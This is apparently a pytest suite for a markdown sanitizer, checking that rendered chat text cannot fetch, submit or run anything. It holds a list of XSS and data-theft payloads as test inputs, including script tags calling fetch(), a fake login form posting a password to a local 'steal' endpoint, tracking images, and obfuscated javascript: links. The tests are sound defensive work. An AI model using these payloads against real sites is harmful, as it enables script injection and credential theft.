"""Issue #12 item 7: message text cannot make the browser fetch, submit or run anything.

The output of safe_markdown is rendered by a real CommonMark renderer (markdown-it-py) with raw
HTML *enabled* and GFM tables on (the most permissive setting), and the resulting HTML is parsed:
only harmless tags may appear, links only to http(s)/mailto/relative URLs, no images at all.
A seeded fuzz over tricky fragments (fences in lists, code spans across lines or table cells,
escaped backticks, entity-encoded schemes) checks the same invariant thousands of times.
"""

import random
import re
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from ui.safe_markdown import safe_markdown

RENDERER = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough")
ALLOWED_TAGS = {
    "p",
    "em",
    "strong",
    "code",
    "pre",
    "a",
    "ul",
    "ol",
    "li",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "blockquote",
    "hr",
    "br",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "s",
}


class Audit(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems, self.text = [], []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if tag == "a" and name == "href":
                v = re.sub(r"[\x00-\x20]", "", value or "").lower()
                if re.match(r"^[a-z][a-z0-9+.\-]*:", v) and not v.startswith(
                    ("http:", "https:", "mailto:")
                ):
                    self.problems.append(f"href {value!r}")
            elif (tag, name) in (("code", "class"), ("ol", "start"), ("a", "title")):
                pass
            elif (
                tag in ("th", "td")
                and name == "style"
                and re.fullmatch(r"text-align:\w+", value or "")
            ):
                pass
            else:
                self.problems.append(f"attribute {name}= on <{tag}>")

    def handle_data(self, data):
        self.text.append(data)


def audit(markdown_text):
    a = Audit()
    a.feed(RENDERER.render(markdown_text))
    a.close()
    return a


ATTACKS = [
    "![logo](http://127.0.0.1:9/track.png)",
    "![ref image][img]\n\n[img]: http://127.0.0.1:9/ref.png",
    "<img src=http://127.0.0.1:9/raw.png>",
    '<form action="http://127.0.0.1:9/steal"><input name=password><button>Log in</button></form>',
    "<script>fetch('http://127.0.0.1:9/s')</script>",
    "<iframe src=http://127.0.0.1:9/></iframe><svg onload=alert(1)><style>@import 'http://x'</style>",
    "<a href=http://x onclick=alert(1)>x</a> <div style=\"background:url(http://127.0.0.1:9/css)\">",
    "[click](javascript:alert(1)) [c2](JaVaScRiPt:alert(1)) [c3](jav&#x61;script:alert(1))",
    "[c4](  javascript:alert(1)) [c5](<javascript:alert(1)>) [c6](data:text/html,<script>x</script>)",
    "[c7](\njavascript:alert(1))",
    "[r]: javascript:alert(1)\n\n[r]",
    "[r2]:\n  vbscript:msgbox\n\n[r2]",
    "<http://127.0.0.1:9/autolink> <javascript:alert(1)>",
    "`a\n> <img src=http://127.0.0.1:9/q.png>\n`",
    "`b\nc` <img src=http://127.0.0.1:9/shift.png> `d`",
    "| `x | <img src=http://127.0.0.1:9/cell.png> | y` |\n|---|---|---|\n| 1 | 2 | 3 |",
    "1. a\n   ```\nfoo\n<img src=http://127.0.0.1:9/list-fence.png>\n   ```",
    "- ```\n<img src=http://127.0.0.1:9/li.png>\n- ```",
    "``` not`a`fence\n<img src=http://127.0.0.1:9/info.png>\n```",
    "\\`<img src=http://127.0.0.1:9/esc.png>`",
    "<!-- comment --><?php x ?><![CDATA[x]]><!DOCTYPE html>",
    "<a title='`'><img src=http://127.0.0.1:9/a.png onerror=alert(1)>`",
    "    <img src=http://127.0.0.1:9/indented.png>\n\n<img src=x>",
    "> quote <img src=http://127.0.0.1:9/quote.png>\n> ```\n> <img src=y>\n> ```",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks_render_to_nothing_that_fetches_submits_or_runs(text):
    a = audit(safe_markdown(text))
    assert a.problems == [], (safe_markdown(text), a.problems)


def test_the_attacks_really_are_attacks_without_it():
    """Most of them get through this renderer unprotected (it already refuses javascript: links
    itself; browsers' renderers are not all that careful)."""
    unsafe = [t for t in ATTACKS if audit(t).problems]
    assert len(unsafe) >= 15


def test_images_become_links_and_text_reads_the_same():
    out = safe_markdown("See ![a cat](https://example.org/cat.png) and a < b > c & d.")
    html = RENDERER.render(out)
    assert '<a href="https://example.org/cat.png">image: a cat</a>' in html
    assert "".join(audit(out).text).strip() == "See image: a cat and a < b > c & d."


def test_code_keeps_its_angle_brackets():
    text = "Use `Vec<T>` here.\n\n```html\n<div class=\"x\"><img src=y></div>\n```\n\nand ~~~\n~~~\n<p>\n~~~"
    html = RENDERER.render(safe_markdown(text))
    assert "<code>Vec&lt;T&gt;</code>" in html
    assert (
        '<code class="language-html">&lt;div class=&quot;x&quot;&gt;&lt;img src=y&gt;&lt;/div&gt;'
        in html
    )
    assert audit(safe_markdown(text)).problems == []


def test_ordinary_markdown_is_unchanged():
    text = (
        "# Title\n\n- one **bold**\n- two [link](https://example.org/a?b=1#c)\n\n"
        "1. step\n\n> quote\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[mail](mailto:x@example.org) [rel](/path)"
    )
    assert safe_markdown(text) == text


def test_line_endings_and_bad_input():
    assert safe_markdown("a\r\nb\rc") == "a\nb\nc"
    with pytest.raises(ValueError):
        safe_markdown(None)


FRAGMENTS = [
    "`",
    "``",
    "```",
    "~~~",
    "\n",
    "\n\n",
    " ",
    "    ",
    "|",
    "\\",
    "!",
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    "- ",
    "> ",
    "1. ",
    "# ",
    "text",
    "<img src=http://127.0.0.1:9/f.png>",
    "![i](http://e/x.png)",
    "<form action=http://e>",
    "[x](javascript:alert(1))",
    "[r]: javascript:x",
    "[r]",
    "&#x6a;avascript:x",
    "<script>x</script>",
    "|---|",
    "<a href=x onclick=y>",
    "<b>",
    "`x`",
]


def test_fuzz_no_fetch_no_form_no_script():
    rng = random.Random(1234)
    for case in range(3000):
        text = "".join(rng.choice(FRAGMENTS) for _ in range(rng.randint(3, 30)))
        out = safe_markdown(text)
        problems = audit(out).problems
        assert problems == [], (case, text, out, problems)
